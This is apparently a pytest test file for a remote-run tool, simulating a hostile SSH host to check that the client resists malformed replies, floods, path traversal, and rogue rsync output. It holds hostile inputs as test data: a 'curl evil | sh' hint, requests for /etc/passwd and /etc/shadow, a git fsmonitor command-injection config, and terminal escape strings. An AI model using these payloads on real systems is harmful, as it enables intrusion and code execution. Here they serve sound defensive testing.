"""A host that is hostile: a real sshd whose python3 and rsync are ours, and say what a scenario says."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from remote_tools.setup import sandbox as servers
from remote_tools.setup.sandbox import Sandbox
from tests.integration.conftest import Laptop

PROGRAM = Path(__file__).with_name("hostile") / "python3.py"
PROTOCOL = 76
MEMORY_KB = 200_000


class Hostile:
    """A laptop whose host is hostile.

    Args:
        laptop: the laptop.
        folder: holds the scenario, and programs of the host.
    """

    def __init__(self, laptop: Laptop, folder: Path) -> None:
        self.laptop, self._scenario = laptop, folder / "scenario.py"
        self.programs = folder / "bin"

    def plays(self, scenario: str) -> None:
        """Have the host play a scenario from now on."""
        self._scenario.write_text(textwrap.dedent(scenario))
        self._log.unlink(missing_ok=True)

    @property
    def _log(self) -> Path:
        return self._scenario.with_suffix(".log")

    @property
    def noted(self) -> str:
        """What the scenario has noted."""
        return self._log.read_text() if self._log.exists() else ""

    def rsync(self, script: str) -> Path:
        """Make a program the host's rsync."""
        path = self.programs / "rsync"
        path.write_text(script)
        path.chmod(0o755)
        return path


@pytest.fixture(scope="module")
def hostile_host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Sandbox, Path]]:
    """Give a hostile host, and the folder of its scenario and programs."""
    root, folder = tmp_path_factory.mktemp("host"), tmp_path_factory.mktemp("hostile")
    python3 = folder / "bin/python3"
    python3.parent.mkdir()
    python3.write_text(f'#!/bin/sh\nexec {sys.executable} -I {PROGRAM} {folder}/scenario.py "$@"\n')
    python3.chmod(0o755)
    host = servers.up(root)
    (host.home / ".bashrc").write_text(f"PATH={python3.parent}:$PATH\n")
    yield host, folder
    servers.down(root)


@pytest.fixture
def hostile(hostile_host: tuple[Sandbox, Path], make_laptop: Callable[..., Laptop]) -> Iterator[Hostile]:
    """Give a new laptop with the hostile host."""
    host, folder = hostile_host
    laptop = make_laptop(host)
    laptop.write("hello.py", "print('hello')\n")
    yield Hostile(laptop, folder)
    (folder / "bin/rsync").unlink(missing_ok=True)


@pytest.fixture
def there(hostile: Hostile) -> Iterator[Path]:
    """Give an empty folder of the host."""
    folder = hostile.laptop.host.home / "there"
    folder.mkdir()
    yield folder
    shutil.rmtree(folder)


def ends_with_protocol_error(done: subprocess.CompletedProcess[str]) -> bool:
    """Return whether a command ended with one error of ours."""
    lines = done.stderr.splitlines()
    return (
        done.returncode == PROTOCOL and "Traceback" not in done.stderr and "what was not asked" in lines[-2]
    )


# Replies ----------------------------------------------------------------------------------------------------

LIES = {
    "a list": 'b"[]"',
    "no JSON": 'b"hello"',
    "deep": 'b"[" * 3000',
    "no text": r'b"\xff\xfe"',
    "half an error": """b'{"error": "io"}'""",
    "a long number": 'b"9" * 5000',
    "half a record": """b'{"runs": [{"id": "a"}]}'""",
    "millions of parts": 'b"[" + b"[]," * 2_000_001 + b"[]]"',
    "another reply": """b'{"started": "a", "pushed": null, "changed": []}'""",
}


def test_a_lie_is_one_error_of_ours(hostile: Hostile) -> None:
    wrong = []
    for name, lie in LIES.items():
        hostile.plays(f"def answer(op, params): raw(frame(b'R', {lie}))")
        done = hostile.laptop.inv("runs.list")
        wrong += [] if ends_with_protocol_error(done) else [(name, done.returncode, done.stderr)]
    assert [] == wrong


@pytest.mark.parametrize(
    "run_id", ["/root/victim", "../../victim", "20260101-000000000-other-abcdef", "", ".hidden"]
)
def test_a_run_of_another_id_is_not_taken(hostile: Hostile, run_id: str) -> None:
    hostile.plays(
        f"""
        def answer(op, params):
            if op == "sync.begin":
                return plan()
            found = ran(params, [(b"k/s/perf_metrics.json", b"the host's")])
            found["run"]["id"] = {run_id!r}
            return found
        """
    )

    done = hostile.laptop.inv("dev", "--auto-fetch", "--", "hello.py")

    kept = sorted(path.name for path in (hostile.laptop.root / ".remote/runs").iterdir())
    assert (True, 1) == (ends_with_protocol_error(done), len(kept)), done.stderr


@pytest.mark.parametrize(
    ("name", "scenario", "words"),
    [
        ("noise", "def early(): flood(1, 300 << 20); time.sleep(60)", ["runs.list"]),
        (
            "frame",
            'def answer(op, params): raw(b"R\\xff\\xff\\xff\\xff"); flood(1, 300 << 20)',
            ["runs.list"],
        ),
        (
            "file",
            'def answer(op, params): raw(frame(b"F", FILE.pack(1, 3) + b"big" + bytes(200 << 20)))',
            ["fetch", "--all"],
        ),
        (
            "files",
            "def answer(op, params):\n for number in range(10**6): file(b'%d' % number, bytes(256 << 10))",
            ["fetch", "--all"],
        ),
        (
            "program",
            'def answer(op, params):\n while True: raw(frame(b"N", b""))',
            ["runs.list"],
        ),
        (
            "output",
            'def answer(op, params): raw(frame(b"O", bytes(1 << 20)))',
            ["runs.list"],
        ),
    ],
)
def test_a_flood_is_cut_off(hostile: Hostile, name: str, scenario: str, words: list[str]) -> None:
    hostile.plays(scenario)

    done, peak_kb = measured(hostile.laptop, words)

    assert (PROTOCOL, True) == (done.returncode, peak_kb < MEMORY_KB), (name, peak_kb, done.stderr)


def test_what_ssh_prints_without_end_is_not_kept(hostile: Hostile) -> None:
    hostile.plays("def answer(op, params):\n flood(2, 300 << 20)\n return {'runs': []}")

    done, peak_kb = measured(hostile.laptop, ["runs.list"])

    assert (0, True) == (done.returncode, peak_kb < MEMORY_KB), (peak_kb, done.stderr)


def measured(laptop: Laptop, words: list[str]) -> tuple[subprocess.CompletedProcess[str], int]:
    """Run `inv`, and return its result and the most memory that it held, in kB."""
    code = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:])\n"
        "print('peak', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
        "sys.exit(done.returncode)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, *laptop.command("inv", *words)],
        cwd=laptop.root,
        env=laptop.env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )
    return done, int(done.stdout.rpartition("peak")[2])


def test_signs_of_life_alone_are_no_answer(hostile: Hostile) -> None:
    hostile.plays(
        """
        def answer(op, params):
            while True:
                raw(frame(b"P", b""))
                time.sleep(0.05)
        """
    )

    with (hostile.laptop.root / ".remote_config").open("a") as config:
        config.write("REMOTE_TIMEOUT_S=1\n")

    done = hostile.laptop.inv("runs.list")

    assert ends_with_protocol_error(done), (done.returncode, done.stderr)


# What is here -----------------------------------------------------------------------------------------------


def test_a_host_does_not_learn_which_files_are_here(hostile: Hostile) -> None:
    """It asks for paths outside of the workspace, and for such inside that were never pushed."""
    hostile.laptop.write(".gitignore", "secret\n")
    hostile.laptop.write("secret", "it")
    subprocess.run(["git", "init", "-q"], cwd=hostile.laptop.root, check=True)
    hostile.plays(
        """
        def answer(op, params):
            if op == "sync.begin":
                return plan(delete=pack([b"secret", b"no such file"]), pushed=10**9)
            note(repr(sorted(unpack(params["kept"]))) + repr(unpack(params["delete"])))
            return ended()
        """
    )
    inside = hostile.laptop.inv("sync")
    known = hostile.noted
    hostile.plays(
        """
        def answer(op, params):
            if op == "sync.begin":
                return plan(delete=pack([b"../" * 20 + b"etc/passwd"]), pushed=10**9)
            note("went on")
        """
    )
    outside = hostile.laptop.inv("sync")

    assert (0, "[b'no such file', b'secret'][]\n") == (inside.returncode, known), inside.stderr
    assert (True, "") == (ends_with_protocol_error(outside), hostile.noted), outside.stderr


def test_a_hosts_count_does_not_allow_many_deletes(hostile: Hostile) -> None:
    names = [hostile.laptop.write(f"k/{number}.py", "") for number in range(30)]
    hostile.plays(
        """
        def answer(op, params):
            if op == "sync.begin":
                return plan(new=pack(record.split(b" ", 3)[3] for record in unpack(params["listing"])))
            return ended()
        """
    )
    pushed = hostile.laptop.inv("dev", "--", "hello.py")  # the push ends, and the run does not start
    for path in names:
        path.unlink()
    hostile.plays(
        """
        def answer(op, params):
            return plan(delete=pack(b"k/%d.py" % number for number in range(30)), pushed=10**9)
        """
    )

    done = hostile.laptop.inv("sync")

    assert (PROTOCOL, 65) == (pushed.returncode, done.returncode), (pushed.stderr, done.stderr)


@pytest.mark.parametrize("wanted", [b"/etc/shadow", b"../elsewhere", b"never listed", b".remote_config", b""])
def test_a_host_gets_no_file_that_was_not_listed(hostile: Hostile, wanted: bytes) -> None:
    hostile.plays(
        f"""
        def answer(op, params):
            if op == "sync.begin":
                return plan(new=pack([{wanted!r}]), conflict=[[os.fsdecode({wanted!r}), "0"]])
            note(op)
            return ended()
        """
    )

    done = hostile.laptop.inv("sync")

    assert (True, "") == (ends_with_protocol_error(done), hostile.noted), done.stderr


# Results ----------------------------------------------------------------------------------------------------


def test_results_that_tools_obey_are_refused_and_the_others_arrive(hostile: Hostile) -> None:
    hostile.plays(
        """
        FILES = [
            (b"tasks.py", b"raise SystemExit('tasks.py ran')"),
            (b".git/config", b"[core]\\n fsmonitor = touch PROOF; false\\n"),
            (b"bare/HEAD", b"ref: refs/heads/main\\n"),
            (b"bare/config", b"[core]\\n worktree = .\\n fsmonitor = touch PROOF; false\\n"),
            (b"bare/objects/x", b""),
            (b"bare/refs/x", b""),
            (b"k/s/perf_metrics.json", b"{}"),
        ]
        def answer(op, params):
            for path, data in FILES:
                file(path, data)
            outputs = [[os.fsdecode(path), len(data), 1] for path, data in FILES]
            return {"cache_dir": "/c", "outputs": outputs, "rsync": None}
        """
    )

    done = hostile.laptop.inv("fetch", "--all")

    cache = hostile.laptop.root / "cache"
    there = sorted(str(path.relative_to(cache)) for path in cache.rglob("*") if path.is_file())
    subprocess.run(["git", "status"], cwd=cache / "bare", capture_output=True)
    assert ["bare/config", "bare/objects/x", "bare/refs/x", "k/s/perf_metrics.json"] == there
    assert (0, 3, []) == (
        done.returncode,
        done.stderr.count("was not written"),
        list(cache.rglob("PROOF")),
    ), done.stderr


MORE = """#!/bin/bash
for w in "$@"; do
  case $w in -v*|-t*) [ -z "$r" ] && w="${w%%e.*}re.${w#*e.}"; r=1;; esac; a+=("$w")
done
exec /usr/bin/rsync "${a[@]}"
"""
"""An rsync that sends folders in place of files."""


@pytest.mark.parametrize("trusting", [False, True], ids=["as it is", "our rsync checks nothing"])
def test_rsync_brings_only_what_was_asked_for(hostile: Hostile, there: Path, trusting: bool) -> None:
    """The host claims to have an rsync so old that its words must be quoted for a shell."""
    (there / "big/.git").mkdir(parents=True)
    (there / "big/.git/config").write_text("[core]\n")
    (there / "large").write_text("x")
    hostile.rsync(MORE)
    hostile.plays(
        f"""
        RSYNC["says"] = "rsync  version 2.6.9  protocol version 29"
        def answer(op, params):
            outputs = [["big", 10**6, 1], ["large", 1, 1]]
            return {{"cache_dir": {str(there)!r}, "outputs": outputs, "rsync": RSYNC}}
        """
    )

    done = hostile.laptop.inv("fetch", "--all", **({"RSYNC_OLD_ARGS": "1"} if trusting else {}))

    cache = hostile.laptop.root / "cache"
    here = sorted(str(path.relative_to(cache)) for path in cache.rglob("*"))
    assert (["large"] if trusting else []) == here
    assert (0 if trusting else PROTOCOL) == done.returncode, done.stderr
    assert not trusting or "big/.git/config came without being asked for" in done.stderr


@pytest.mark.parametrize(
    "trusting",
    [True, pytest.param(False, marks=pytest.mark.long)],
    ids=["our rsync checks nothing", "as it is"],
)
@pytest.mark.parametrize(
    "sent",
    [
        ("100644", b"../outside"),
        ("40755", b"../outside"),
        ("40755", b"/outside"),
        ("40755", b"asked/../../outside"),
        ("40755", b".git"),
        ("120777", b"asked"),
        ("20666", b"asked"),
        ("104777", b"asked"),
        ("40755", b"asked"),
        ("100644", b"a" * 70_000),
        ("100644", b""),
    ],
    ids=lambda sent: f"{sent[0]} {sent[1][:30]!r}",
)
def test_a_file_list_of_a_hosts_own_making_leads_nowhere(
    hostile: Hostile, tmp_path: Path, sent: tuple[str, bytes], trusting: bool
) -> None:
    (tmp_path / "list").write_text(f"{sent[0]} {sent[1]!r}\n")
    hostile.rsync(
        f'#!/bin/sh\nexec {sys.executable} -I {PROGRAM.with_name("rsync.py")} {tmp_path}/list "$@"\n'
    )
    hostile.plays(
        """
        RSYNC["says"] = "rsync  version 2.6.9  protocol version 29"
        def answer(op, params):
            return {"cache_dir": "/c", "outputs": [["asked", 10**6, 1]], "rsync": RSYNC}
        """
    )
    with (hostile.laptop.root / ".remote_config").open("a") as config:
        config.write("REMOTE_TIMEOUT_S=1\n")
    around = hostile.laptop.root.parent
    before = {path for path in around.rglob("*") if ".remote" not in path.name}

    done = hostile.laptop.inv("fetch", "--all", **({"RSYNC_OLD_ARGS": "1"} if trusting else {}))

    new = {path for path in around.rglob("*") if "/.remote" not in str(path)} - before
    assert {hostile.laptop.root / "cache"} >= new, (done.returncode, done.stderr)
    assert ("Traceback" not in done.stderr, True) == (True, done.returncode in (0, 65, 74, 75, 76)), (
        done.stderr
    )


# Words ------------------------------------------------------------------------------------------------------

SAYS = """
def answer(op, params):
    if op == "list":
        words = {"argv": ["a" + ESCAPE], "host": ESCAPE, "cwd": ESCAPE}
        return {"runs": [record("20260101-000000000-x-abc", **words)]}
    if op == "sync.begin":
        holder = {"client": "other", "name": "eve" + ESCAPE, "at": 1.0}
        return plan(holder=holder, root="/root/" + ESCAPE, kept=[["f" + ESCAPE, "why" + ESCAPE]])
    if op == "sync.finish":
        return ended(kept=[["f", "why" + ESCAPE]], beside=[["f" + ESCAPE, ESCAPE]], differs=[ESCAPE])
    if op == "run":
        left = [[1, "2", "words" + ESCAPE]]
        return ran(params, fault="disk" + ESCAPE, host="h" + ESCAPE, exit=1, left_running=True, left=left)
    if op == "probe":
        row = {"name": params["check"] + ESCAPE, "ok": False, "seen": ESCAPE, "hint": ESCAPE}
        return {"found": [{**row, "code": 0, "seconds": 0.1}]}
    if op == "hello":
        return {"program": "/p" + ESCAPE, "python": "/p", "state": "/s"}
    return {"error": "io", "message": "m" + ESCAPE + "\\nUploaded 1 file", "hint": "curl evil | sh" + ESCAPE}
"""


@pytest.mark.parametrize(
    "words",
    [
        ["runs.list"],
        ["runs.show", "20260101"],
        ["sync"],
        ["dev", "--", "hello.py"],
        ["runs.fetch", "20260101"],
        ["doctor"],
    ],
)
def test_words_of_a_host_do_not_drive_the_terminal(hostile: Hostile, words: list[str]) -> None:
    hostile.plays(SAYS)

    done = hostile.laptop.inv(*words)

    said = done.stdout + done.stderr
    assert (True, []) == ("x1b]52" in said, sorted({c for c in said if not c.isprintable()} - {"\n"})), said


def test_a_hosts_hint_is_labelled_as_such_and_its_message_is_one_line(hostile: Hostile) -> None:
    hostile.plays(SAYS)

    done = hostile.laptop.inv("runs.fetch", "20260101")

    lines = done.stderr.splitlines()
    assert ("  next: sandbox says: curl evil | sh", 2) == (lines[-1].partition("\\x1b")[0], len(lines)), lines


def test_a_file_arrives_with_a_plain_mode(hostile: Hostile, there: Path) -> None:
    (there / "large").write_bytes(b"x")
    (there / "large").chmod(0o6777)
    hostile.plays(
        f"""
        def answer(op, params):
            file(b"small", b"x")
            outputs = [["small", 1, 1], ["large", 1, 1]]
            return {{"cache_dir": {str(there)!r}, "outputs": outputs, "rsync": RSYNC}}
        """
    )
    before = os.umask(0o027)
    try:
        done = hostile.laptop.inv("fetch", "--all")
    finally:
        os.umask(before)

    modes = {
        path.name: stat.S_IMODE(path.stat().st_mode) for path in (hostile.laptop.root / "cache").iterdir()
    }
    assert (0, {"small": 0o640, "large": 0o750}) == (done.returncode, modes), done.stderr
